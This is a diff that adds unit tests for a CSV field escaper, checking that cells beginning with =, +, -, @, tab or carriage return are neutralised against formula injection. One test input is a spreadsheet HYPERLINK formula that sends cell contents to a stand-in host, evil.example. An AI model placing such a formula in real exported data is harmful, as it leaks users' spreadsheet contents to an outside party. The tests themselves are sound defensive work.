@@ -60,8 +60,30 @@ describe("csvField", () => {
     ["a\r\nb", '"a\r\nb"'],
     ["", ""],
     ["x;y", "x;y"],
+    // OWASP CSV injection: a cell a spreadsheet would run as a formula starts with `'`.
+    [
+      '=HYPERLINK("http://evil.example/?"&B2&C2,"…")',
+      `"'=HYPERLINK(""http://evil.example/?""&B2&C2,""…"")"`,
+    ],
+    ["+1+1", "'+1+1"],
+    ["-2+3", "'-2+3"],
+    ["@SUM(A1)", "'@SUM(A1)"],
+    ["\t=1", "'\t=1"],
+    ["\r=1", `"'\r=1"`],
+    ["-2.5", "-2.5"],
+    ["-0221", "-0221"],
+    ["a=b", "a=b"],
   ])("%j → %j", (value, expected) => {
     expect(csvField(value)).toBe(expected);
+  });
+});
+
+describe("toCsv: formula injection", () => {
+  it("neutralizes a summary and keeps a negative score a number", () => {
+    const event = { ...FIXTURE_EVENTS[0]!, summary: "=1+1", score: -2.5 };
+    const [, row] = parseCsv(toCsv([event], { doc: "d" }));
+    expect(row?.[CSV_COLUMNS.indexOf("summary")]).toBe("'=1+1");
+    expect(row?.[CSV_COLUMNS.indexOf("score")]).toBe("-2.5");
   });
 });
 
